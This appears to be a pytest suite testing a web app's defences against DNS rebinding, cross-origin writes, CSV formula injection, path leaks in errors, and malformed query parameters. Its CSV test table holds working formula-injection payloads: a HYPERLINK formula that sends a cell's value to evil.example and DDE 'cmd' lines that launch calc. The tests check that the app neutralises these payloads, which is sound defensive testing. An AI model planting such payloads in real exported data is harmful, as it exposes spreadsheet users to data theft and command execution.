"""Web-facing attacks: DNS rebinding (Host), cross-site writes (Origin), formulas in CSV
downloads, server paths in error messages, and answers the OpenAPI spec must declare.

Host and Origin are tried with real HTTP requests to the app served by uvicorn on loopback,
in the no-user local admin mode and with users and tokens.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

import erm_graph
from erm_graph.auth import Users
from erm_graph.settings import Settings
from erm_graph.web import create_app
from erm_graph.web.spreadsheet import spreadsheet_cell

LOCAL = "http://127.0.0.1"
FOREIGN_HOSTS = ["evil.example", "evil.example:8000", "127.0.0.1.evil.example",
                 "localhost.evil.example:8000", "10.0.0.7"]


@pytest.fixture(scope="module")
def apps(demo_store, serve_app, tmp_path_factory):
    """Three servers on one demo library: no users (the local admin), with an admin token, and
    one that also answers to erm.example.com."""
    folder = tmp_path_factory.mktemp("web")
    users = Users.open(folder / "users.db")
    users.add("ada", "admin", password="correct horse battery")
    token = users.new_token("ada")

    def served(users_db: Path, **extra) -> str:
        settings = Settings.from_env(users_db=users_db, web_host="127.0.0.1",
                                     query_timeout=10, **extra)
        return serve_app(create_app(settings, store=demo_store))

    yield {"local": served(folder / "none" / "users.db"),
           "users": served(folder / "users.db"), "token": token,
           "named": served(folder / "none" / "users.db", web_allowed_hosts=("erm.example.com",))}
    users.close()


def _auth(apps, mode: str) -> dict[str, str]:
    return {"authorization": f"Bearer {apps['token']}"} if mode == "users" else {}


def _port(url: str) -> str:
    return url.rsplit(":", 1)[1]


@pytest.mark.parametrize("mode", ["local", "users"])
@pytest.mark.parametrize("host", FOREIGN_HOSTS)
def test_dns_rebinding_a_foreign_host_is_refused_before_anything(apps, mode, host):
    url = apps[mode]
    for method, path, body in [("GET", "/api/me", None), ("GET", "/", None),
                               ("POST", "/api/cypher", {"query": "RETURN 1"}),
                               ("GET", "/api/nodes/nope", None)]:
        r = httpx.request(method, url + path, json=body, timeout=30,
                          headers={"host": host, **_auth(apps, mode)})
        assert r.status_code == 400, (method, path, r.status_code, r.text[:200])
        assert r.headers["content-type"] == "application/json"
        assert r.json()["error"]["kind"] == "host"
        assert "ERM_WEB_ALLOWED_HOSTS" in r.json()["error"]["message"]
        assert "set-cookie" not in r.headers  # nothing behind the check ran


@pytest.mark.parametrize("mode", ["local", "users"])
def test_loopback_names_are_served(apps, mode):
    url = apps[mode]
    port = _port(url)
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LocalHost.:{port}",
                 f"[::1]:{port}", "127.0.0.1"):
        r = httpx.get(url + "/api/me", headers={"host": host, **_auth(apps, mode)}, timeout=30)
        assert r.status_code == 200, (host, r.text[:200])
        assert r.json()["role"] == "admin"


def test_configured_names_are_served_and_star_serves_any(apps, demo_store, tmp_path):
    r = httpx.get(apps["named"] + "/api/me", headers={"host": "erm.example.com"}, timeout=30)
    assert r.status_code == 200
    r = httpx.get(apps["named"] + "/api/me", headers={"host": "other.example.com"}, timeout=30)
    assert r.status_code == 400
    anyone = create_app(Settings.from_env(users_db=tmp_path / "u.db",
                                          web_allowed_hosts=("*",)), store=demo_store)
    with TestClient(anyone, base_url="http://whatever.example") as client:
        assert client.get("/api/me").status_code == 200


def test_erm_serve_answers_the_names_in_erm_web_allowed_hosts(tmp_path, monkeypatch):
    from tests.e2e.conftest import free_port, start_server, stop_server

    monkeypatch.setenv("ERM_WEB_ALLOWED_HOSTS", "erm.example.com, Other.Example.")
    port = free_port()
    proc = start_server(f"embedded:{tmp_path / 'db'}", port)  # no users: the local admin
    try:
        url = f"http://127.0.0.1:{port}/api/me"
        for host, status in [("erm.example.com", 200), ("other.example:443", 200),
                             (f"localhost:{port}", 200), ("evil.example", 400)]:
            assert httpx.get(url, headers={"host": host}, timeout=30).status_code == status, host
    finally:
        stop_server(proc)


@pytest.mark.parametrize("mode", ["local", "users"])
@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://localhost:1",
                                    "https://127.0.0.1.evil.example"])
def test_a_write_from_another_origin_is_refused(apps, mode, origin):
    url = apps[mode]
    host = url.removeprefix("http://")
    for path, kwargs in [("/api/cypher", {"json": {"query": "RETURN 1"}}),
                         ("/login", {"data": {"username": "ada", "password": "x"}}),
                         ("/api/nodes/nope", {"json": {"properties": {"name": "x"}}})]:
        method = "PATCH" if path.startswith("/api/nodes") else "POST"
        r = httpx.request(method, url + path, timeout=30, **kwargs,
                          headers={"host": host, "origin": origin, **_auth(apps, mode)})
        assert r.status_code == 403, (path, r.status_code, r.text[:200])
        assert r.json()["error"]["kind"] == "forbidden"
        assert "cross-site" in r.json()["error"]["message"]


@pytest.mark.parametrize("mode", ["local", "users"])
def test_same_origin_writes_and_foreign_reads_pass(apps, mode):
    url = apps[mode]
    r = httpx.post(url + "/api/cypher", json={"query": "RETURN 1 AS one"}, timeout=30,
                   headers={"origin": url, **_auth(apps, mode)})
    assert r.status_code == 200 and r.json()["rows"] == [[1]]
    # a read from another origin is answered (no CORS header: the foreign page cannot read it)
    r = httpx.get(url + "/api/me", headers={"origin": "http://evil.example",
                                            **_auth(apps, mode)}, timeout=30)
    assert r.status_code == 200 and "access-control-allow-origin" not in r.headers


# -- CSV downloads ------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("Harbor & Sons", "Harbor & Sons"),
    ("a=b", "a=b"),
    (-5, -5), (-2.5, -2.5), (0, 0),
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1e3", "-1e3"),
    ("-", "'-"), ("+1 555 0100", "'+1 555 0100"),
    (["=1+2"], '["=1+2"]'),
    (None, None), (True, True),
])
def test_spreadsheet_cells_never_start_a_formula(value, written):
    assert spreadsheet_cell(value) == written


def test_csv_download_neutralises_formulas_and_keeps_numbers(store, tmp_path):
    store.run("CREATE (p:Party:Customer {uid: 'cust-x', name: '=HYPERLINK(\"http://e.x\")'}), "
              "(e:Employee {uid: 'emp-x', name: '@SUM(A1)'}), "
              "(i:Interaction {uid: 'int-x', kind: 'purchase', amount: -5.0}), "
              "(e)-[:MANAGES]->(p), (p)-[:HAD]->(i), (i)-[:WITH]->(e)", read_only=False)
    app = create_app(Settings.from_env(users_db=tmp_path / "u.db"), store=store)
    with TestClient(app, base_url=LOCAL) as client:
        r = client.get("/api/queries/key-person-risk", params={"format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    header, row = list(csv.reader(io.StringIO(r.text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'=HYPERLINK(\"http://e.x\")"
    assert cells["employee"] == "'@SUM(A1)"
    assert cells["revenue"] == "-5.0" and cells["interactions"] == "1"
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


# -- messages, 405, OpenAPI ---------------------------------------------------------------

@pytest.fixture(scope="module")
def client(demo_store, tmp_path_factory):
    settings = Settings.from_env(users_db=tmp_path_factory.mktemp("c") / "u.db",
                                 query_timeout=10)
    with TestClient(create_app(settings, store=demo_store), base_url=LOCAL) as c:
        c.get("/")  # the CSRF cookie, echoed as the page's scripts do
        c.headers["x-csrf-token"] = c.cookies.get("erm_csrf")
        yield c


def _server_folders() -> list[str]:
    return [str(Path(erm_graph.__file__).resolve().parent.parent), sys.prefix, "/tmp"]


def test_errors_never_show_server_paths(client):
    r = client.get("/api/queries/no-such-query")
    assert r.status_code == 404 and r.json()["error"]["kind"] == "not_found"
    r2 = client.post("/api/load", files={"file": ("data.unknown", b"\x00\x01", "text/plain")},
                     data={"dry_run": "true"})
    assert r2.status_code == 400
    for answer in (r, r2):
        message = answer.json()["error"]["message"]
        assert not any(folder in message for folder in _server_folders()), message


def test_an_unexpected_failure_is_a_bare_500_in_the_error_shape(demo_store, tmp_path):
    app = create_app(Settings.from_env(users_db=tmp_path / "u.db"), store=demo_store)

    @app.get("/api/fails")
    def fails() -> None:
        raise RuntimeError(f"{Path(erm_graph.__file__).parent}/secret.py: boom")

    with TestClient(app, base_url=LOCAL, raise_server_exceptions=False) as c:
        r = c.get("/api/fails")
    assert r.status_code == 500
    assert r.json()["error"]["kind"] == "internal"
    assert "secret" not in r.text and "Traceback" not in r.text


def test_405_names_the_allowed_methods(client):
    spec = client.get("/api/openapi.json").json()
    tried = 0
    for path, item in spec["paths"].items():
        declared = {m.upper() for m in item}
        concrete = path.replace("{uid}", "cust-000001").replace("{name}", "key-person-risk")
        for method in {"GET", "POST", "PUT", "PATCH", "DELETE"} - declared:
            r = client.request(method, concrete)
            assert r.status_code == 405, (method, path, r.status_code)
            assert r.json()["error"]["kind"] == "method_not_allowed"
            assert {m.strip() for m in r.headers["allow"].split(",")} - {"HEAD"} == declared
            tried += 1
    assert tried > 40


def test_openapi_declares_every_error_answer_in_the_error_shape(client):
    spec = client.get("/api/openapi.json").json()
    assert "HTTPValidationError" not in spec["components"]["schemas"]
    for path, item in spec["paths"].items():
        for method, operation in item.items():
            responses = operation["responses"]
            assert {"400", "401", "403", "413", "429", "500", "503", "504"} <= set(responses)
            if operation.get("parameters") or operation.get("requestBody"):
                assert "422" in responses, (method, path)
            if operation.get("requestBody") or any(
                    p["in"] == "path" for p in operation.get("parameters", [])):
                assert "404" in responses, (method, path)  # a record it names may be gone
            for status, answer in responses.items():
                if status >= "400":
                    assert answer["content"]["application/json"]["schema"] == {
                        "$ref": "#/components/schemas/ErrorBody"}, (method, path, status)
    named = spec["paths"]["/api/queries/{name}"]["get"]["responses"]["200"]["content"]
    assert set(named) == {"application/json", "text/csv"}


@pytest.mark.parametrize("params", [{"m": {"": 1}}, {"m": {"a`b": 1}}, {"bad name": 1},
                                    {"x) RETURN 1 //": 1}, {"m": [{"": [1]}]}])
def test_console_parameters_the_engine_cannot_take_are_a_400(client, params):
    r = client.post("/api/cypher", json={"query": "RETURN 1 AS one", "params": params})
    assert r.status_code == 400, r.text[:200]
    assert "parameter" in r.json()["error"]["message"]


def test_console_parameter_nan_is_a_400(client):
    r = client.post("/api/cypher", content=b'{"query": "RETURN $x", "params": {"x": NaN}}',
                    headers={"content-type": "application/json"})
    assert r.status_code == 400 and "NaN" in r.json()["error"]["message"]
